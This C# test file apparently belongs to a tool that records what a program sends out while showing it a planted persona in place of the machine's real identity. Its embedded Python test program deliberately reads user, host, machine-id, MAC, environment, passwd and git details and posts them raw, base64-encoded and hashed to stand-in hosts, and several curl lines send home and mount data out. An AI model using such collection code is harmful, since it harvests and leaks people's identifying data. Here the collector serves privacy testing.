using System.Text;

namespace Klikspaan.Tests.Recording;

/// <summary>A machine with values of its own that are known to the test, an ordinary user on it, and a program that sends all it can find out.</summary>
public sealed class PersonaRecordingTests(PersonaRecordingTests.Machine machine) : IClassFixture<PersonaRecordingTests.Machine>
{
    [Fact]
    public async Task The_machine_without_a_recorder_gives_each_of_its_values_away()
    {
        var told = await machine.ToldOutsideAsync();

        Assert.All(Machine.Real, r => Assert.Contains(r.Value, told, StringComparison.Ordinal));
    }

    [Fact]
    public async Task No_file_of_the_dossier_holds_a_value_of_the_machine_in_any_form()
    {
        var files = await machine.DossierAsync();

        Assert.Contains(files.Keys, f => f.StartsWith("captures/", StringComparison.Ordinal));
        Assert.Contains(files.Keys, f => f.StartsWith("planted/", StringComparison.Ordinal));
        Assert.Contains("manifest.jsonl", files.Keys);
        foreach (var (file, text) in files)
        {
            foreach (var (label, value) in Machine.Real)
            {
                Assert.All(Forms(value), form => Assert.False(text.Contains(form, StringComparison.OrdinalIgnoreCase), $"{file} holds the real {label} as {form}"));
            }
        }
    }

    [Fact]
    public async Task Every_planted_value_is_found_raw_in_base64_and_hashed()
    {
        var rows = await machine.RowsAsync(0);

        foreach (var label in new[] { "user", "host", "full-name", "mac", "machine-id", "home", "work-folder", "git-name", "git-email", "git-remote" })
        {
            foreach (var form in new[] { "raw", "sha256" })
            {
                Assert.Contains(rows, r => r.StartsWith($"{label},", StringComparison.Ordinal) && r.Contains(form, StringComparison.Ordinal));
            }
        }

        Assert.Contains(rows, r => r.StartsWith("user,", StringComparison.Ordinal) && r.Contains("base64", StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_file_system_and_the_calls_tell_the_persona_alike()
    {
        var found = await machine.FoundAsync();

        Assert.Equal(found["git config user.email"], Machine.Planted(found, "git-email"));
        Assert.Equal(found["uname -n"], Machine.Planted(found, "host"));
        Assert.Equal(found["cat /etc/hostname"], Machine.Planted(found, "host"));
        Assert.Equal(found["cat /etc/machine-id"], Machine.Planted(found, "machine-id"));
        Assert.Equal(File.Exists("/var/lib/dbus/machine-id") ? Machine.Planted(found, "machine-id") : found["cat /var/lib/dbus/machine-id"], found["cat /var/lib/dbus/machine-id"]);
        Assert.Equal(found["whoami"], Machine.Planted(found, "user"));
        Assert.Equal(found["pwd"], Machine.Planted(found, "work-folder"));
        Assert.Contains(Machine.Planted(found, "git-remote"), found["git remote -v"], StringComparison.Ordinal);
        Assert.Equal(found["cat /sys/class/net/eth0/address"], Machine.Planted(found, "mac"));
    }

    [Fact]
    public async Task Two_recordings_in_one_dossier_are_each_searched_with_their_own_persona_only()
    {
        var (first, second) = (await machine.RowsAsync(0), await machine.RowsAsync(1));

        Assert.NotEmpty(first);
        Assert.NotEmpty(second);
        Assert.Equal(2, (await machine.CapturesAsync()).Count);
        Assert.Empty(await machine.RowsWithForeignPersonaAsync());
    }

    [Fact]
    public async Task What_silences_programs_is_removed_and_named_and_what_is_asked_for_passes()
    {
        var found = await machine.FoundAsync();

        foreach (var name in new[] { "CI", "DO_NOT_TRACK", "SOME_TOOL_TELEMETRY_DISABLED" })
        {
            Assert.DoesNotContain($"\n{name}=", "\n" + found["env"], StringComparison.Ordinal);
            Assert.Contains($"{{\"name\":\"{name}\",\"why\":\"opt-out\"}}", found["capture"], StringComparison.Ordinal);
        }

        Assert.DoesNotContain("KLIKSPAAN", found["env"], StringComparison.Ordinal);
        Assert.Contains("\nASKED=value of it", "\n" + found["env"], StringComparison.Ordinal);
        Assert.Contains("\nPASSED_ON=from outside", "\n" + found["env"], StringComparison.Ordinal);
        Assert.DoesNotContain("\nNOT_ASKED=", "\n" + found["env"], StringComparison.Ordinal);
    }

    [Fact]
    public async Task With_keep_home_the_own_home_is_seen_and_that_is_said()
    {
        await machine.DossierAsync();

        Assert.Contains("KEPT real-file-in-home /home/" + Machine.User, machine.KeptHome.Out, StringComparison.Ordinal);
        Assert.Contains("home and work folder: the tester's own are used, as asked for", machine.KeptHome.Error, StringComparison.Ordinal);
        Assert.Contains("klikspaan: this machine's own details in the recording: found: ", machine.KeptHome.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_the_mount_table_tells_is_said_before_and_found_after()
    {
        await machine.DossierAsync();

        Assert.Contains("klikspaan: mount table: /proc/self/mountinfo shows the real path of your folders, which can name you; the program can read and send it", machine.MountError, StringComparison.Ordinal);
        Assert.Contains("klikspaan: this machine's own details in the recording: found: user", machine.MountError, StringComparison.Ordinal);
    }

    static IEnumerable<string> Forms(string value)
    {
        foreach (var text in new[] { value, value.ToUpperInvariant(), value.ToLowerInvariant(), value.Replace(":", "", StringComparison.Ordinal), value.Replace(':', '-') }.Distinct())
        {
            var bytes = Encoding.UTF8.GetBytes(text);
            yield return text;
            yield return Uri.EscapeDataString(text);
            yield return Convert.ToHexString(bytes);
            for (var offset = 0; offset < 3; offset++)
            {
                // Where it stands in the middle of a longer text, only the groups of four that are wholly its own are known.
                var coded = Convert.ToBase64String([.. new byte[offset], .. bytes]);
                var core = coded[(offset == 0 ? 0 : 4)..^(coded.EndsWith('=') ? 4 : 0)];
                if (core.Length >= 8)
                {
                    yield return core;
                    yield return core.Replace('+', '-').Replace('/', '_');
                }
            }
#pragma warning disable CA5350, CA5351 // What programs use, not what they should.
            foreach (var digest in new[] { System.Security.Cryptography.MD5.HashData(bytes), System.Security.Cryptography.SHA1.HashData(bytes), System.Security.Cryptography.SHA256.HashData(bytes) })
#pragma warning restore CA5350, CA5351
            {
                yield return Convert.ToHexString(digest)[..16];
                yield return Convert.ToBase64String(digest)[..16];
            }
        }
    }

    /// <summary>The recordings, made once.</summary>
    public sealed class Machine : IDisposable
    {
        public const string User = "echtegebruiker";

        /// <summary>The values of the machine.</summary>
        internal static readonly (string Label, string Value)[] Real =
        [
            ("user", User), ("host", "echte-computernaam"), ("full name", "Echt Bestaand Persoon"), ("mac", "02:de:ad:5e:ed:07"), ("machine-id", "e0c47e11d3a94b0f8f6c4a2b9d7e5f13"),
            ("home", "/home/" + User), ("git name", "Gitte Werkelijk"), ("git e-mail", "gitte@werkelijk-adres.example"), ("git remote", "git.echt-intern.example/geheim/zaaksysteem"),
        ];

        readonly Workplace place = new();
        Task? made;
        Dictionary<string, string> files = [];
        string outside = "";

        internal Workplace.Run KeptHome { get; private set; } = new(0, "", "");

        internal string MountError { get; private set; } = "";

        internal async Task<string> ToldOutsideAsync()
        {
            await (made ??= MakeAsync());
            return outside;
        }

        internal async Task<Dictionary<string, string>> DossierAsync()
        {
            await (made ??= MakeAsync());
            return files;
        }

        internal async Task<List<string>> CapturesAsync() => [.. (await DossierAsync()).Keys.Where(k => k.StartsWith("captures/", StringComparison.Ordinal)).Order(StringComparer.Ordinal)];

        /// <summary>The planted values found in a capture: label, form.</summary>
        internal async Task<List<string>> RowsAsync(int capture)
        {
            var name = (await CapturesAsync())[capture]["captures/".Length..][..12];
            var run = await place.DoAsync("show", "planted", "--format", "csv", "--columns", "label,value_form,encoding_chain,locator");
            return [.. run.Lines.Where(l => l.Contains(name, StringComparison.Ordinal))];
        }

        /// <summary>The first recording beside the planted values of the second.</summary>
        internal async Task<List<string>> RowsWithForeignPersonaAsync()
        {
            await DossierAsync();
            using var other = new Workplace();
            await other.RunCommandAsync("cp", ["-r", place.InDossier(), other.InDossier()]);
            var planted = Directory.GetFiles(other.InDossier("planted")).Order(StringComparer.Ordinal).ToList();
            var (first, second) = (File.ReadAllText(planted[0]), File.ReadAllText(planted[1]));
            File.WriteAllText(planted[0], second);
            File.WriteAllText(planted[1], first);
            var run = await other.DoAsync("show", "planted", "--format", "csv", "--columns", "label,value_form,locator");
            Assert.Equal(0, run.Code);
            return [.. run.Lines.Skip(1).Where(l => l.Length > 0)];
        }

        /// <summary>What the program printed inside, by command; and the planted values; and the capture.</summary>
        internal async Task<Dictionary<string, string>> FoundAsync()
        {
            var all = await DossierAsync();
            var found = all["out/inside"].Split("\n== ").Skip(1).Select(p => p.Split('\n', 2)).ToDictionary(p => p[0], p => p[1].Trim(), StringComparer.Ordinal);
            found["capture"] = string.Concat(all.Where(f => f.Key.StartsWith("captures/", StringComparison.Ordinal)).Select(f => f.Value));
            foreach (var planted in all["out/planted"].Split("- label: ").Skip(1))
            {
                var parts = planted.Split('\n');
                found["planted " + parts[0].Trim('\'', '"')] = parts[1].Split(": ", 2)[1].Trim('\'', '"');
            }

            return found;
        }

        internal static string Planted(Dictionary<string, string> found, string label) => found["planted " + label];

        public void Dispose() => place.Dispose();

        async Task MakeAsync()
        {
            await Isolated.RequireAsync("git", "setpriv", "nft", "curl");
            Assert.SkipUnless(Environment.IsPrivilegedProcess, "another machine within this one needs root");
            place.Write("tell.py", Program);
            Isolated.OpenToAll(place.Folder);
            var run = await place.RunCommandAsync("unshare", ["--net", "--mount", "--uts", "sh", "-c", Script.Replace("$PROGRAM", Workplace.Program, StringComparison.Ordinal)]);
            Assert.True(File.Exists(place.Path("out", "done")), run.Out + run.Error);
            outside = File.ReadAllText(place.Path("out", "outside"));
            KeptHome = new(0, File.ReadAllText(place.Path("out", "kept")), File.ReadAllText(place.Path("out", "kept-error")));
            MountError = File.ReadAllText(place.Path("out", "mount-error"));
            files = Directory.EnumerateFiles(place.InDossier(), "*", SearchOption.AllDirectories).ToDictionary(
                f => System.IO.Path.GetRelativePath(place.InDossier(), f), f => f.EndsWith(".gz", StringComparison.Ordinal) ? Isolated.Plain(f) : Encoding.Latin1.GetString(File.ReadAllBytes(f)), StringComparer.Ordinal);
            files["out/inside"] = File.ReadAllText(place.Path("out", "inside"));
            files["out/planted"] = File.ReadAllText(Directory.GetFiles(place.InDossier("planted")).Order(StringComparer.Ordinal).First());
        }

        // The values are those of Real. /home is a file system of its own, so that nothing is left behind.
        const string Script = """
            set -eu
            W=$PWD; U=echtegebruiker
            hostname echte-computernaam
            ip link set lo up
            ip link add real0 address 02:de:ad:5e:ed:07 type veth peer name real1 && ip link set real0 up
            mount --make-rprivate /
            mount -t tmpfs tmpfs /home
            mkdir -p /home/$U/werk /home/$U/.config "$W/out"; chmod 777 "$W/out"
            { cat /etc/passwd; echo "$U:x:4242:4242:Echt Bestaand Persoon,,,:/home/$U:/bin/sh"; } > "$W/passwd"; mount --bind "$W/passwd" /etc/passwd
            { cat /etc/group; echo "$U:x:4242:"; } > "$W/group"; mount --bind "$W/group" /etc/group
            echo e0c47e11d3a94b0f8f6c4a2b9d7e5f13 > "$W/id"; [ -e /etc/machine-id ] || : > /etc/machine-id
            mount --bind "$W/id" /etc/machine-id; [ ! -e /var/lib/dbus/machine-id ] || mount --bind "$W/id" "$(readlink -f /var/lib/dbus/machine-id)" || true
            echo echte-computernaam > "$W/name"; mount --bind "$W/name" /etc/hostname
            printf '127.0.0.1 localhost\n127.0.1.1 echte-computernaam\n' > "$W/hosts"; mount --bind "$W/hosts" /etc/hosts
            printf '[user]\n\tname = Gitte Werkelijk\n\temail = gitte@werkelijk-adres.example\n[safe]\n\tdirectory = *\n' > /home/$U/.gitconfig
            echo real-file-in-home > /home/$U/file
            cp "$W/tell.py" /home/$U/werk/
            (cd /home/$U/werk && git init -q . && git remote add origin https://git.echt-intern.example/geheim/zaaksysteem.git)
            chown -R 4242:4242 /home/$U
            as="setpriv --reuid 4242 --regid 4242 --clear-groups env -i PATH=$PATH HOME=/home/$U USER=$U LOGNAME=$U LANG=C.UTF-8 CI=true DO_NOT_TRACK=1 SOME_TOOL_TELEMETRY_DISABLED=1 PASSED_ON=from_outside NOT_ASKED=1"
            as=$(echo "$as" | sed 's/from_outside/from@outside/')
            cd /home/$U/werk
            $as python3 tell.py --print > "$W/out/outside" 2>&1
            for i in 1 2; do
              $as "PASSED_ON=from outside" dotnet "$PROGRAM" -d "$W/d" record -q --max-opaque 100 --env PASSED_ON --env "ASKED=value of it" -- python3 tell.py --print --send > "$W/out/inside.$i" 2> "$W/out/error.$i" || { cat "$W/out/error.$i" >&2; exit 1; }
            done
            mv "$W/out/inside.1" "$W/out/inside"
            $as dotnet "$PROGRAM" -d "$W/out/kept-d" record -q --max-opaque 100 --keep-home -- sh -c 'echo KEPT $(cat $HOME/file) $HOME; curl -sS -d "$HOME" http://kept.example/' > "$W/out/kept" 2> "$W/out/kept-error" || true
            $as dotnet "$PROGRAM" -d "$W/out/mount-d" record -q --max-opaque 100 -- curl -sS --data-binary @/proc/self/mountinfo http://mounts.example/ > /dev/null 2> "$W/out/mount-error" || true
            chmod -R a+rX "$W/d"
            : > "$W/out/done"
            """;

        const string Program = """
            import base64, hashlib, json, os, subprocess, sys, urllib.request
            commands = ['git config user.email', 'git config user.name', 'git remote -v', 'uname -n', 'uname -a', 'hostname -f', 'cat /etc/hostname', 'cat /etc/hosts', 'cat /etc/machine-id', 'cat /var/lib/dbus/machine-id',
                        'whoami', 'id', 'getent passwd $(id -u)', 'pwd', 'env', 'ip address', 'cat /sys/class/net/eth0/address', 'cat /sys/class/net/*/address', 'cat /proc/self/mounts', 'cat /proc/1/cmdline | tr "\\0" " "',
                        'ls -la ~ /home /run /tmp / /root', 'cat ~/.gitconfig', 'cat .git/config', 'cat /etc/passwd', 'cat /etc/group', 'cat /etc/resolv.conf', 'cat /proc/self/environ | tr "\\0" "\\n"', 'cat /proc/net/arp /proc/net/route /proc/net/unix',
                        'ps -ef', 'cat /proc/*/cmdline | tr "\\0" " "', 'find / -xdev -maxdepth 3 -newermt 2026-01-01 -name "*echt*"']
            found = {}
            for command in commands:
                r = subprocess.run(command, shell=True, capture_output=True, text=True, errors='replace')
                found[command] = (r.stdout + r.stderr).strip()
            if '--print' in sys.argv:
                for k, v in found.items(): print('\n== %s\n%s' % (k, v))
            if '--send' in sys.argv:
                # The words of all that was found, as they are, coded and hashed: what a program that spies might do.
                words = set()
                for v in found.values():
                    for line in v.split('\n'):
                        words.add(line.strip())
                        for part in line.replace('\t', ' ').replace('=', ' ').split(' '):
                            words.add(part.strip('(),')); words.update(part.split(':')); words.update(part.split(',')); words.update(part.split('@'))
                        if ':' in line: words.update(f.rstrip(',') for f in line.split(':'))
                        if '=' in line: words.add(line.split('=', 1)[1].strip())
                words = sorted(w for w in words if len(w) >= 4)
                for w in list(words):
                    if w.startswith('https://'): words.append(w[8:]); words.append(w[8:].removesuffix('.git'))
                def send(kind, values):
                    urllib.request.urlopen('https://collect-%s.example/v1' % kind, json.dumps(values).encode(), 30).read()
                send('raw', found)
                send('base64', [base64.b64encode(w.encode()).decode() for w in words])
                for name in ('md5', 'sha1', 'sha256'): send(name, [hashlib.new(name, w.encode()).hexdigest() for w in words])
            """;
    }
}
